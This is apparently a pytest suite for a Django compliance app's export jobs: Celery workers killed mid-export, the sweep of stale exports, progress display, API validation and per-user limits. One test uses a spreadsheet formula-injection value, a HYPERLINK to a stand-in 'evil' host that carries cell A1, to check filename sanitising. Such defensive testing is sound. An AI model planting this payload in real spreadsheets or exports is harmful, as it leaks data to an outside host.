"""Exports as jobs, through a real Celery worker on real Redis and PostgreSQL: asked for on
the page or through the API, followed until ready, a worker killed mid-export, the sweep
of dead and expired exports; and COPY's CSV and JSON against the row-by-row writers."""

import base64
import datetime as dt
import json
import os
import signal
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request

import psycopg2
import pytest
import redis
from celery.exceptions import SoftTimeLimitExceeded
from django.conf import settings as django_settings
from django.contrib.auth.models import User
from django.db import connection
from django.utils import timezone
from rest_framework.authtoken.models import Token

from compliance import tasks, workers
from compliance.evidence import jobs, reports, signed, store
from compliance.identity import access
from compliance.models import AuditEvent, Export
from tests.builders import T0, make_user
from tests.processes import start_worker, wait_for
from welkin_dash.celery import app

AT = (T0 + dt.timedelta(days=1, hours=1)).isoformat()
FLEET = access.Scope(None, access.AUDITOR)


@pytest.fixture
def exports_dir(settings, tmp_path):
    settings.EXPORTS_DIR = tmp_path / "exports"
    return settings.EXPORTS_DIR


@pytest.fixture
def worker(broker, exports_dir):
    w = start_worker(WELKIN_EXPORTS_DIR=str(exports_dir))
    yield w
    w.kill()


def _verify(client, e: Export) -> signed.Verification:
    content = b"".join(client.get(f"/reports/exports/{e.pk}/").streaming_content)
    manifest = b"".join(client.get(f"/reports/exports/{e.pk}/manifest.json").streaming_content)
    return signed.verify(content, manifest)


@pytest.mark.django_db(transaction=True)
def test_an_export_is_written_by_a_worker_and_followed_on_the_page_and_the_api(
    worker, login_as, history, api_as
):
    c = login_as("auditor")
    r = c.post("/reports/export/", {"at": AT, "format": "csv"})
    assert r.status_code == 302 and r["Location"] == "/reports/#exports"
    e = Export.objects.get()
    # The request only saved and queued it: the worker writes it.
    # (and what its asker sees, which every download checks again)
    assert e.request == {"kind": "report", "cluster": "", "namespace": "", "viewer": "fleet"}
    e = wait_for(lambda: Export.objects.filter(pk=e.pk, status="done").first())
    # A CSV is not counted first (no summary needed): rows so far, no total.
    assert e.rows == 2 and e.total is None and e.worker.endswith(tuple("0123456789"))
    assert e.expires_at - e.finished_at == dt.timedelta(days=90)
    assert _verify(c, e).ok
    page = c.get("/reports/").content.decode()
    assert f"/reports/exports/{e.pk}/" in page and "hx-get" not in page  # nothing to follow
    done = AuditEvent.objects.get(action="export_done")
    assert done.username == "auditor" and done.content_hash == e.manifest["sha256"]

    api = api_as("auditor")
    r = api.post("/api/v1/exports/", {"format": "json", "at": AT}, format="json")
    assert r.status_code == 202, r.content
    assert r.json()["status"] == "queued" and r["Location"] == r.json()["url"]
    body = wait_for(lambda: (b := api.get(r["Location"]).json())["status"] == "done" and b)
    assert body["rows"] == body["total"] == 2 and body["error"] is None and body["sha256"]
    content = b"".join(api.get(body["files"]["file"]).streaming_content)
    manifest = b"".join(api.get(body["files"]["manifest"]).streaming_content)
    assert signed.verify(content, manifest).ok
    assert [x["id"] for x in api.get("/api/v1/exports/").json()["results"]] == [body["id"]]
    assert api.get(f"/api/v1/exports/{e.pk}/").status_code == 404  # the auditor's, not theirs
    assert api.get(f"/api/v1/exports/{e.pk}/file").status_code == 404


@pytest.mark.django_db(transaction=True)
def test_a_worker_killed_mid_export_leaves_no_file_that_verifies_and_the_export_is_rerun(
    worker, login_as, history, exports_dir
):
    c = login_as("officer")
    # Hold the worker where it is most dangerous: the file written in full under its
    # temporary name, the manifest not yet (it reads the newest signed audit head).
    db = connection.settings_dict
    blocker = psycopg2.connect(
        dbname=db["NAME"], user=db["USER"], host=db["HOST"] or "127.0.0.1", port=db["PORT"] or 5432
    )
    try:
        blocker.cursor().execute("LOCK TABLE compliance_audithead IN ACCESS EXCLUSIVE MODE")
        c.post("/reports/export/", {"at": AT, "format": "csv"})
        e = Export.objects.get()
        wait_for(lambda: list(exports_dir.glob(f".{e.pk}.*.part")))
        e.refresh_from_db()
        assert e.status == "running" and e.attempts == 1
        final = store.file_path(e)
        assert not final.exists() and not store.manifest_path(final).exists()
        first = int(e.worker.rpartition(":")[2])
        os.kill(first, signal.SIGKILL)
        # Celery sends the task again (acks_late, reject_on_worker_lost); the next
        # attempt takes the export over from the dead process, and waits at the lock too.
        wait_for(lambda: Export.objects.filter(pk=e.pk, attempts=2).exists())
        assert not final.exists()
    finally:
        blocker.rollback()
        blocker.close()
    e = wait_for(lambda: Export.objects.filter(pk=e.pk, status="done").first())
    assert int(e.worker.rpartition(":")[2]) != first
    assert _verify(c, e).ok and e.rows == 2
    assert not list(exports_dir.glob("*.part")) and not list(exports_dir.glob(".*.part"))
    assert AuditEvent.objects.filter(action="export_done").count() == 1


@pytest.mark.django_db(transaction=True)
def test_the_sweep_runs_again_an_export_whose_whole_worker_died(
    worker, login_as, history, exports_dir
):
    c = login_as("auditor")
    user = User.objects.get(username="auditor")
    doc = reports.point_in_time(access.scope_for(user), dt.datetime.fromisoformat(AT))
    e = jobs.create(user, "csv", doc, "report", {"cluster": "", "namespace": ""})

    def pod_gone(attempts):
        """Its worker's pod is gone (another host, so no process to look for): nothing
        but a heartbeat 11 minutes old. Redis would give the task back only after its
        2-hour visibility timeout."""
        Export.objects.filter(pk=e.pk).update(
            status="running",
            attempts=attempts,
            worker="worker-7f9c-gone:12",
            heartbeat_at=timezone.now() - dt.timedelta(minutes=11),
        )

    pod_gone(attempts=1)  # and a temporary file left
    exports_dir.mkdir(parents=True, exist_ok=True)
    part = exports_dir / f".{e.pk}.csv.0123.part"
    part.write_bytes(b"id,status\r\n")
    assert jobs.sweep() == {"failed": 0, "rerun": 1, "requeued": 0, "expired": 0}
    assert not part.exists()
    e = wait_for(lambda: Export.objects.filter(pk=e.pk, status="done").first())
    assert e.attempts == 2 and e.worker != "worker-7f9c-gone:12" and e.rows == 2
    assert _verify(c, e).ok
    assert AuditEvent.objects.filter(action="export_done").count() == 1
    pod_gone(attempts=3)  # the third time: the sweep gives up and says why
    assert jobs.sweep()["failed"] == 1
    e.refresh_from_db()
    assert e.status == "failed" and e.error.startswith("the worker writing it stopped")
    assert not store.file_path(e).exists()


@pytest.mark.django_db
def test_an_attempt_taken_over_changes_neither_the_files_nor_the_record(history, exports_dir):
    user = make_user("auditor")
    doc = reports.point_in_time(access.scope_for(user), dt.datetime.fromisoformat(AT))
    e = jobs.create(user, "csv", doc, "report", {"cluster": "", "namespace": ""})
    stalled = jobs.claim(e.pk)
    # While this attempt stalled, the next one took the export over and wrote its files.
    Export.objects.filter(pk=e.pk).update(worker="worker-2:7", attempts=2)
    exports_dir.mkdir(parents=True, exist_ok=True)
    path = store.file_path(e)
    path.write_bytes(b"the next attempt's file")
    store.manifest_path(path).write_bytes(b"the next attempt's manifest")
    assert jobs.attempt(stalled) == ""
    assert path.read_bytes() == b"the next attempt's file"
    assert store.manifest_path(path).read_bytes() == b"the next attempt's manifest"
    assert not list(exports_dir.glob(".*.part"))
    e.refresh_from_db()
    assert (e.status, e.worker, e.attempts) == ("running", "worker-2:7", 2)
    assert not AuditEvent.objects.filter(action__in=("export_done", "export_failed")).exists()


@pytest.mark.django_db
def test_the_sweep_fails_an_export_whose_worker_died_and_deletes_expired_ones(
    history, exports_dir, settings
):
    user = make_user("auditor")
    settings.WELKIN_EXPORTS_IN_PROCESS = True
    doc = reports.point_in_time(access.scope_for(user), dt.datetime.fromisoformat(AT))
    done = jobs.create(user, "csv", doc, "report", {"cluster": "", "namespace": ""})
    jobs.queue(done)
    assert done.status == "done" and store.file_path(done).exists()
    # A worker that died writing: a process that has exited, its temporary file left.
    dead = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"],
        text=True,
        capture_output=True,
        check=True,
    )
    orphan = jobs.create(user, "json", doc, "report", {"cluster": "", "namespace": ""})
    Export.objects.filter(pk=orphan.pk).update(
        status="running",
        attempts=1,
        worker=f"{workers.worker_id().rpartition(':')[0]}:{dead.stdout.strip()}",
        heartbeat_at=timezone.now(),
    )
    part = exports_dir / f".{orphan.pk}.json.0123.part"
    part.write_bytes(b'{"report":')
    # Under `make run` no worker could run it again: failed.
    assert jobs.sweep() == {"failed": 1, "rerun": 0, "requeued": 0, "expired": 0}
    orphan.refresh_from_db()
    assert orphan.status == "failed" and orphan.error.startswith("the worker writing it stopped")
    assert not part.exists()
    # Done exports are deleted once expired: files and record, audited.
    path = store.file_path(done)
    later = done.expires_at + dt.timedelta(seconds=1)
    assert jobs.sweep(later)["expired"] == 2  # the failed one too
    assert not path.exists() and not store.manifest_path(path).exists()
    assert not Export.objects.exists()
    pruned = AuditEvent.objects.get(action="export_expired")
    assert pruned.scope["exports"] == 2 and str(done.pk) in pruned.scope["ids"]
    # Not the data's retention: reports of times before the exports' cut-off still work.
    assert not AuditEvent.objects.filter(action="prune").exists()
    failed = AuditEvent.objects.get(action="export_failed")
    assert failed.scope["format"] == "json" and failed.scope["reason"].startswith("the worker")


@pytest.mark.django_db
def test_a_running_export_is_shown_with_its_progress_and_polled(login_as, exports_dir):
    c = login_as("auditor")
    user = Export._meta.get_field("user").related_model.objects.get(username="auditor")
    e = Export.objects.create(
        user=user,
        format="csv",
        scope={"cluster": None, "namespace": None},
        at=timezone.now(),
        status="running",
        rows=1500,
        total=4000,
        heartbeat_at=timezone.now(),
    )
    part = c.get("/reports/exports/").content.decode()
    assert 'hx-get="/reports/exports/"' in part and 'hx-trigger="every 2s"' in part
    assert '<progress max="4000" value="1500">' in part and "1500 of 4000" in part
    assert "no progress" not in part
    # Its worker died: the count would stay frozen; the page says why, and what happens.
    Export.objects.filter(pk=e.pk).update(heartbeat_at=timezone.now() - dt.timedelta(minutes=7))
    part = c.get("/reports/exports/").content.decode()
    assert "no progress for 7 min: its worker stalled or died" in part
    assert "runs it again after 10 min of silence" in part
    assert c.get(f"/reports/exports/{e.pk}/").status_code == 404  # not ready: no file
    Export.objects.filter(pk=e.pk).update(status="failed", error="the disk <b>is</b> full")
    part = c.get("/reports/exports/").content.decode()
    assert "hx-get" not in part and "failed: the disk &lt;b&gt;is&lt;/b&gt; full" in part


@pytest.mark.django_db
def test_the_api_refuses_a_malformed_export_request_naming_the_field(api_as, history):
    api = api_as("auditor")
    cases = [
        ({"at": AT}, "format", "required"),
        ({"format": "xls"}, "format", "expected one of"),
        ({"format": "csv", "at": 5}, "at", "expected a string"),
        ({"format": "csv", "at": "tomorrow"}, "at", ""),
        ({"format": "csv", "cluster": "a\x00"}, "cluster", "control characters"),
        ({"format": "csv", "Cluster": "prod-eu"}, "Cluster", "unknown field (expected format,"),
        ({"format": "csv", "clust\x00er": "x"}, "clust\\x00er", "unknown field"),
        ({"format": "csv", "at": "\uff12\uff10\uff12\uff16-11-01T00:00:00Z"}, "at", "ISO 8601"),
    ]
    for body, field, problem in cases:
        r = api.post("/api/v1/exports/", body, format="json")
        assert r.status_code == 400, (body, r.content)
        assert problem in r.json()[field][0], r.json()
    r = api.post("/api/v1/exports/", ["csv"], format="json")
    assert r.status_code == 400
    for raw, problem in [
        ('{"format": "csv", "x": ' + "[" * 100_000 + "]" * 100_000 + "}", "nested too deeply"),
        ('{"format": "csv", "format": "pdf"}', "the key 'format' is given twice"),
        ('{"format": "csv", "at": NaN}', "NaN is not JSON"),
    ]:
        r = api.post("/api/v1/exports/", raw, content_type="application/json")
        assert r.status_code == 400 and problem in r.json()["detail"], r.content[:200]
    r = api.post(
        "/api/v1/exports/",
        "format=csv&cluster=prod-eu&cluster=",
        content_type="application/x-www-form-urlencoded",
    )
    assert r.status_code == 400 and r.json() == {"cluster": ["given more than once"]}
    r = api.post(  # the test client's encoder cannot write a lone surrogate; a client can
        "/api/v1/exports/",
        '{"format": "csv", "cluster": "\\ud800"}',
        content_type="application/json",
    )
    assert r.status_code == 400 and "lone UTF-16 surrogate" in r.json()["cluster"][0]
    future = (timezone.now() + dt.timedelta(days=1)).isoformat()
    r = api.post("/api/v1/exports/", {"format": "csv", "at": future}, format="json")
    assert r.status_code == 400 and "in the future" in r.json()["detail"]
    assert not Export.objects.exists()
    other = Export.objects.create(user=make_user("officer"), format="csv", at=timezone.now())
    for path in ("", "file", "manifest.json"):
        assert api.get(f"/api/v1/exports/{other.pk}/{path}").status_code == 404
    denied = AuditEvent.objects.filter(action="denied").values_list("target", flat=True)
    assert sorted(denied) == sorted(
        f"/api/v1/exports/{other.pk}/{path}" for path in ("", "file", "manifest.json")
    )


@pytest.mark.django_db
def test_a_user_may_have_only_a_few_exports_waiting(login_as, api_as, history, settings):
    settings.WELKIN_EXPORT_MAX_ACTIVE = 2
    c = login_as("lead", ["shop"])
    for _ in range(2):  # queued: no worker here
        assert c.post("/reports/export/", {"at": AT, "format": "csv"}).status_code == 302
    r = c.post("/reports/export/", {"at": AT, "format": "json"})
    assert r.status_code == 429 and b"You have 2 exports queued or being written" in r.content
    api = api_as("auditor")
    for status in (202, 202, 429):
        r = api.post("/api/v1/exports/", {"format": "csv", "at": AT}, format="json")
        assert r.status_code == status
    assert "at most 2 at a time" in r.json()["detail"]
    assert Export.objects.count() == 4


@pytest.mark.django_db(transaction=True)
def test_parallel_asks_get_no_more_exports_than_the_limit(live_server, history, monkeypatch):
    """Ten requests at once: each counts the user's exports and saves one under the
    user's row lock, so three get in (WELKIN_EXPORT_MAX_ACTIVE) and seven get 429."""
    monkeypatch.setattr(workers, "send", lambda *a, **k: None)  # no worker: they stay queued
    token = Token.objects.create(user=make_user("auditor")).key
    start, answers = threading.Barrier(10), []

    def ask():
        request = urllib.request.Request(
            live_server.url + "/api/v1/exports/",
            data=b'{"format": "csv", "at": "%s"}' % AT.encode(),
            headers={"Authorization": f"Token {token}", "Content-Type": "application/json"},
        )
        start.wait()
        try:
            answers.append(urllib.request.urlopen(request, timeout=60).status)
        except urllib.error.HTTPError as e:
            answers.append(e.code)

    threads = [threading.Thread(target=ask) for _ in range(10)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(90)
    assert sorted(answers) == [202] * 3 + [429] * 7
    assert Export.objects.count() == 3


@pytest.mark.django_db(transaction=True)
def test_with_the_broker_down_an_export_is_saved_queued_and_sent_by_the_sweep(
    api_as,
    history,
    settings,
    broker,
):
    settings.WELKIN_EXPORT_STALE_SECONDS = 0
    api = api_as("auditor")
    good = app.conf.broker_write_url, app._pool, app.amqp._producer_pool
    app.conf.broker_write_url = "redis://127.0.0.1:1/0"  # nothing listens there
    app._pool = app.amqp._producer_pool = None
    try:
        r = api.post("/api/v1/exports/", {"format": "csv", "at": AT}, format="json")
    finally:
        app.conf.broker_write_url, app._pool, app.amqp._producer_pool = good
    assert _messages("exports") == []
    assert r.status_code == 202 and r.json()["status"] == "queued"
    assert Export.objects.get().status == "queued"
    jobs.sweep()  # with the broker back: sent again
    assert [m["args"] for m in _messages("exports")] == [[r.json()["id"]]]


def _messages(queue: str) -> list[dict]:
    """The messages waiting in a Redis queue (headers, and the arguments as `args`), taken
    off it."""
    r = redis.Redis.from_url(django_settings.CELERY_BROKER_URL)
    out = []
    while (raw := r.rpop(queue)) is not None:
        message = json.loads(raw)
        out.append({**message["headers"], "args": json.loads(base64.b64decode(message["body"]))[0]})
    return out


def test_a_queued_task_carries_no_time_limit_so_the_workers_own_applies(broker):
    """Celery writes the sender's time limits into a message, and a worker takes those:
    WELKIN_EXPORT_TIME_LIMIT set on the worker alone did nothing. workers.send leaves them
    out."""
    workers.send(tasks.export, "00000000-0000-0000-0000-000000000000")
    tasks.export.delay("11111111-1111-1111-1111-111111111111")  # what it replaces
    limit = django_settings.WELKIN_EXPORT_TIME_LIMIT
    assert [m["timelimit"] for m in _messages("exports")] == [[None, None], [limit, limit - 5]]


@pytest.mark.django_db(transaction=True)
def test_a_taken_over_attempts_progress_moves_nothing(history):
    user = make_user("auditor")
    doc = reports.point_in_time(access.scope_for(user), dt.datetime.fromisoformat(AT))
    e = jobs.create(user, "csv", doc, "report", {"cluster": "", "namespace": ""})
    e = jobs.claim(e.pk)
    progress = jobs.Progress(e, every=0.05)
    try:
        progress(10)
        wait_for(lambda: Export.objects.get(pk=e.pk).rows == 10, 10)
        Export.objects.filter(pk=e.pk).update(worker="worker-2:7", attempts=2, rows=3)
        progress(20)
        beat = Export.objects.get(pk=e.pk).heartbeat_at
        time.sleep(0.5)
    finally:
        progress.close()
    after = Export.objects.get(pk=e.pk)
    assert (after.rows, after.heartbeat_at) == (3, beat)


def test_a_time_limit_is_named_however_the_writer_wrapped_it():
    try:
        try:
            raise SoftTimeLimitExceeded()
        except SoftTimeLimitExceeded as stop:
            raise store.ExportError("the CSV export failed, and left no file") from stop
    except store.ExportError as wrapped:
        assert "longer than the export time limit" in jobs._reason(wrapped)


def test_a_hostile_name_cannot_shape_the_download_name():
    e = Export(
        format="csv",
        at=dt.datetime(2026, 11, 1, tzinfo=dt.UTC),
        scope={"cluster": '=HYPERLINK("http://evil/?"&A1,"x")', "namespace": "a\nb"},
    )
    assert e.filename == "welkin-report-_HYPERLINK__http___evil____A1__x__-a_b-20261101T000000Z.csv"
